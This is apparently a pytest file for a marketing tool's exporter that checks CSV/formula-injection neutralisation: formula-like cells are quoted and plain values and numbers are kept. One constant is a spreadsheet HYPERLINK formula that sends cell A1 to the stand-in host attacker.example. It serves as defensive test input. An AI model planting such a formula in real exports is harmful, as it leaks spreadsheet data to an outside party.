"""Exports a marketer opens in a spreadsheet carry no live formula (issue 26: CSV injection)."""

import csv
from datetime import date

import pandas as pd
import pytest

from personaflow.core.exports import inert, inert_cells
from personaflow.pipeline.audiences import _export

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
def test_cells_a_spreadsheet_would_run_get_a_quote(cell):
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["17850", "Champions", "a=b", "", 12.5, -3, None])
def test_other_cells_are_unchanged(cell):
    assert inert(cell) == cell


def test_an_audience_export_keeps_a_formula_looking_id_as_text(tmp_path):
    members = pd.DataFrame(
        {"user_id": [FORMULA, "17850"], "rfm_segment": ["Lost", "-Champions"], "monetary": [-5.0, 12.0],
         "audience": "lapsing", "as_of": date(2011, 12, 9)}
    )  # fmt: skip
    path = _export(members, tmp_path / "audience.csv")
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["user_id"] for r in rows] == ["'" + FORMULA, "17850"]
    assert [r["rfm_segment"] for r in rows] == ["Lost", "'-Champions"]
    assert [r["monetary"] for r in rows] == ["-5.0", "12.0"]  # numbers stay numbers
    assert inert_cells(members)["monetary"].tolist() == [-5.0, 12.0]
    parquet = _export(members, tmp_path / "audience.parquet")  # not a spreadsheet file: kept as it came
    assert pd.read_parquet(parquet)["user_id"].tolist() == [FORMULA, "17850"]
